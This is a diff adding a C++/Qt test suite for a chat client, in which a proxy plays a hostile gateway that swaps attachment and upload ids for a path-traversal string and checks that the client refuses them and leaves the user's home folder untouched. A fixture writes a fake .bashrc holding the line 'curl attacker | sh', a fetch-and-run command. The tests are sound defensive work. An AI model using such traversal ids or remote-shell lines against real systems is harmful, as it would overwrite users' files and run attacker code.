@@ -1,0 +1,261 @@
+// The hostile gateway (issue 16): the real hchat-gateway behind tests/support/GatewayProxy, which
+// plays a gateway (or a man in the middle) that rewrites what it relays. Each test is one attack
+// and proves the client refuses it: what the client stored and showed, and what it put on the wire.
+#include "E2eeTestHelpers.h"
+#include "GatewayProxy.h"
+
+#include "AttachmentInfo.h"
+#include "AttachmentTransfers.h"
+
+#include <QCryptographicHash>
+#include <QDirIterator>
+#include <QFile>
+#include <QRegularExpression>
+
+#include <sodium.h>
+
+using namespace hchat;
+using namespace hchat::test;
+
+namespace {
+
+// 32 characters, as long as an upload id: from <profile>/attachments it climbs to the home folder
+// when the profile lives at ~/.local/share/hchat/<profile>.
+const QByteArray kTraversalId = QByteArrayLiteral("../../../../../././././././././.");
+
+// Every file and folder under root with its size and a hash of its content, except the folders
+// the client owns (its profile).
+QMap<QString, QByteArray> listing(const QString &root, const QString &except)
+{
+    QMap<QString, QByteArray> out;
+    QDirIterator it(root, QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot,
+                    QDirIterator::Subdirectories);
+    while (it.hasNext()) {
+        const QString path = it.next();
+        if (path == except || path.startsWith(except + QLatin1Char('/')))
+            continue;
+        const QFileInfo fi = it.fileInfo();
+        QByteArray entry = fi.isDir() ? QByteArrayLiteral("dir") : QByteArray::number(fi.size());
+        QFile f(path);
+        if (fi.isFile() && f.open(QIODevice::ReadOnly))
+            entry += ' ' + QCryptographicHash::hash(f.readAll(), QCryptographicHash::Sha256).toHex();
+        out.insert(QDir(root).relativeFilePath(path), entry);
+    }
+    return out;
+}
+
+// Rewrites a relayed message's attachment id, in the message and (plain channels) its content.
+bool poisonAttachment(hchat::v1::Message *m)
+{
+    if (m->kind() != hchat::v1::MESSAGE_KIND_ATTACHMENT || m->attachment_id().empty())
+        return false;
+    m->set_attachment_id(kTraversalId.toStdString());
+    hchat::v1::AttachmentContent c;
+    if (!m->encrypted() && c.ParseFromString(m->body())) {
+        c.set_attachment_id(kTraversalId.toStdString());
+        m->set_body(c.SerializeAsString());
+    }
+    return true;
+}
+
+QByteArray serialized(const google::protobuf::MessageLite &m)
+{
+    const std::string s = m.SerializeAsString();
+    return QByteArray(s.data(), qsizetype(s.size()));
+}
+
+} // namespace
+
+class HostileGateway : public QObject {
+    Q_OBJECT
+    std::unique_ptr<GatewayProcess> m_gw;
+    std::unique_ptr<GatewayProxy> m_proxy;
+    QTemporaryDir m_files{scratchRoot() + QStringLiteral("/hostile-files-XXXXXX")};
+
+    // A client whose profile lives where a desktop user's does: <home>/.local/share/hchat/<nick>.
+    struct HomeClient {
+        std::unique_ptr<QTemporaryDir> sandbox;
+        QString home;
+        QString profile;
+        std::unique_ptr<TestClient> client;
+    };
+    HomeClient homeClient(const QString &nick, const QUrl &wsUrl)
+    {
+        HomeClient h;
+        h.sandbox = std::make_unique<QTemporaryDir>(scratchRoot() + QStringLiteral("/hostile-home-XXXXXX"));
+        h.home = h.sandbox->filePath(QStringLiteral("home"));
+        h.profile = h.home + QStringLiteral("/.local/share/hchat/") + nick;
+        QDir().mkpath(h.profile);
+        QFile rc(h.home + QStringLiteral("/.bashrc"));
+        if (rc.open(QIODevice::WriteOnly))
+            rc.write("# the user's own shell settings\n");
+        QDir().mkpath(h.home + QStringLiteral("/Documents"));
+        QFile doc(h.home + QStringLiteral("/Documents/thesis.txt"));
+        if (doc.open(QIODevice::WriteOnly))
+            doc.write("years of work\n");
+        h.client = std::make_unique<TestClient>(h.profile);
+        h.client->connectTo({wsUrl}, HttpTestApi(m_gw->httpUrl()).account(nick));
+        if (!h.client->waitOnline())
+            qWarning() << nick << "did not come online";
+        return h;
+    }
+
+private slots:
+    void initTestCase()
+    {
+        QVERIFY(sodium_init() >= 0);
+        m_gw = std::make_unique<GatewayProcess>();
+        m_gw->setExtraArguments({QStringLiteral("--rate-limit"), QStringLiteral("0")});
+        QVERIFY2(m_gw->start(), m_gw->output().constData());
+        m_proxy = std::make_unique<GatewayProxy>(m_gw->httpUrl());
+        QVERIFY(m_proxy->listen());
+    }
+    void cleanup() { m_proxy->clearHooks(); }
+    void cleanupTestCase()
+    {
+        m_proxy.reset();
+        m_gw.reset();
+    }
+
+    // An attachment id that is a path (`../`) reaches the client by push and by pull, and the
+    // hostile gateway serves the file under it: the client refuses the id, downloads nothing, and
+    // neither opening nor the message's deletion touches anything outside its attachments folder.
+    void maliciousAttachmentIdIsRefusedAndNothingOutsideIsTouched()
+    {
+        const QString ch = QStringLiteral("poisoned-files");
+        auto alice = onlineUser(*m_gw, QStringLiteral("alice-files"), ch);
+        HomeClient bob = homeClient(QStringLiteral("bob-files"), m_proxy->wsUrl());
+        QVERIFY(bob.client->run((*bob.client)->joinChannel(ch)));
+
+        QString realId;
+        m_proxy->setFrameHook([&](const hchat::v1::Frame &f, QByteArray &bytes) {
+            if (!f.has_push())
+                return GatewayProxy::Verdict::Pass;
+            hchat::v1::Frame copy = f;
+            realId = QString::fromStdString(f.push().message().attachment_id());
+            if (!poisonAttachment(copy.mutable_push()->mutable_message()))
+                return GatewayProxy::Verdict::Pass;
+            bytes = serialized(copy);
+            return GatewayProxy::Verdict::Replace;
+        });
+        m_proxy->setSyncHook([&](const hchat::v1::SyncRequest &, int &status, QByteArray &body) {
+            hchat::v1::SyncResponse r;
+            if (status != 200 || !r.ParseFromArray(body.constData(), int(body.size())))
+                return;
+            for (auto &m : *r.mutable_messages())
+                if (!m.attachment_id().empty())
+                    realId = QString::fromStdString(m.attachment_id());
+            for (auto &m : *r.mutable_messages())
+                poisonAttachment(&m);
+            body = serialized(r);
+        });
+        // Whatever path the client asks for, the hostile gateway serves the real file's bytes.
+        m_proxy->setRequestHook([&](QByteArray &method, QByteArray &path, QByteArray &) {
+            if (method == "GET" && !realId.isEmpty() && !path.startsWith("/v1/uploads") &&
+                !path.startsWith(QByteArrayLiteral("/v1/attachments/") + realId.toLatin1()))
+                path = QByteArrayLiteral("/v1/attachments/") + realId.toLatin1();
+        });
+
+        const QMap<QString, QByteArray> before = listing(bob.home, bob.profile);
+        QVERIFY(before.contains(QStringLiteral(".bashrc")));
+
+        QFile evil(m_files.filePath(QStringLiteral(".bashrc")));
+        QVERIFY(evil.open(QIODevice::WriteOnly));
+        evil.write("curl attacker | sh\n");
+        evil.close();
+        const qint64 up = (*alice)->sendAttachment(ch, evil.fileName());
+        QVERIFY(up > 0);
+        const quint64 seq = [&] {
+            QDeadlineTimer d(30000);
+            while (!d.hasExpired()) {
+                for (quint64 s = bob.client->store()->maxSeq(ch); s > 0; --s) {
+                    const auto m = bob.client->store()->message(ch, s);
+                    if (m && m->kind == MessageKind::Attachment)
+                        return s;
+                }
+                QTest::qWait(20);
+            }
+            return quint64(0);
+        }();
+        QVERIFY2(seq > 0, "the attachment message did not reach bob");
+        QVERIFY(!realId.isEmpty());
+
+        // Opening it: refused with a reason, and nothing outside the attachments folder changes
+        // (a client that built paths from the id would write ~/.bashrc here).
+        QString error;
+        const bool started = (*bob.client)->downloadAttachment(ch, seq, &error);
+        QTest::qWait(1500); // a download the client wrongly started would have finished by now
+        QCOMPARE(listing(bob.home, bob.profile), before);
+        QVERIFY(!started);
+        QVERIFY2(!error.isEmpty(), "a refused download says why");
+        // The id never becomes a path: the message shows a damaged attachment, nothing to fetch.
+        const auto stored = bob.client->store()->message(ch, seq);
+        QVERIFY(stored);
+        QVERIFY(stored->attachmentId.isEmpty() ||
+                QRegularExpression(QStringLiteral("^[0-9a-f]{32}$")).match(stored->attachmentId).hasMatch());
+        QVERIFY(stored->attachment.isEmpty());
+
+        // The sender recalls it: the deletion of a poisoned attachment removes nothing outside.
+        QString deleteError;
+        QVERIFY2((*alice)->deleteMessage(ch, seq, &deleteError) > 0,
+                 qPrintable(deleteError));
+        QTRY_VERIFY_WITH_TIMEOUT(bob.client->store()->message(ch, seq)->deleted, 20000);
+        QTest::qWait(500);
+        QCOMPARE(listing(bob.home, bob.profile), before);
+        QVERIFY(QFileInfo::exists(bob.home + QStringLiteral("/Documents/thesis.txt")));
+    }
+
+    // The hostile gateway answers an upload with an id that is a path: the upload fails with a
+    // clear error and the staged file is not moved outside the attachments folder.
+    void maliciousUploadIdIsRefused()
+    {
+        const QString ch = QStringLiteral("poisoned-uploads");
+        HomeClient carol = homeClient(QStringLiteral("carol-uploads"), m_proxy->wsUrl());
+        QVERIFY(carol.client->run((*carol.client)->joinChannel(ch)));
+        // Every answer names the upload by a path; requests for that name go to the real upload.
+        QByteArray realId;
+        m_proxy->setResponseHook([&](const QByteArray &, const QByteArray &path, int &status, QByteArray &body) {
+            hchat::v1::UploadStatus s;
+            if (!path.startsWith("/v1/uploads") || status / 100 != 2 || !s.ParseFromArray(body.constData(), int(body.size())))
+                return;
+            realId = QByteArray::fromStdString(s.upload_id());
+            s.set_upload_id(kTraversalId.toStdString());
+            body = serialized(s);
+        });
+        // (the client's HTTP stack may have resolved the "../" of the path already)
+        m_proxy->setRequestHook([&](QByteArray &method, QByteArray &path, QByteArray &) {
+            if (!realId.isEmpty() && (method == "PUT" || method == "GET") && path != "/v1/uploads/" + realId)
+                path = QByteArrayLiteral("/v1/uploads/") + realId;
+        });
+        const QMap<QString, QByteArray> before = listing(carol.home, carol.profile);
+        const QString file = m_files.filePath(QStringLiteral("notes.txt"));
+        QFile f(file);
+        QVERIFY(f.open(QIODevice::WriteOnly));
+        f.write("meeting notes\n");
+        f.close();
+        const qint64 up = (*carol.client)->sendAttachment(ch, file);
+        QVERIFY(up > 0);
+        bool finished = false, ok = true;
+        QString error;
+        connect((*carol.client)->transfers(), &AttachmentTransfers::transferFinished, this,
+                [&](const QString &id, bool rok, const QString &e) {
+                    if (id != AttachmentTransfers::uploadTransferId(up))
+                        return;
+                    finished = true;
+                    ok = rok;
+                    error = e;
+                });
+        QTRY_VERIFY_WITH_TIMEOUT(finished, 30000);
+        QTest::qWait(300);
+        QCOMPARE(listing(carol.home, carol.profile), before);
+        QVERIFY(!ok);
+        QVERIFY(!error.isEmpty());
+        // Nothing was sent under the poisoned id.
+        QTest::qWait(300);
+        const auto latest = carol.client->store()->latestMessage(ch);
+        QVERIFY(!latest || latest->kind != MessageKind::Attachment);
+    }
+};
+
+QTEST_GUILESS_MAIN(HostileGateway)
+#include "tst_e2ee_hostile_gateway.moc"
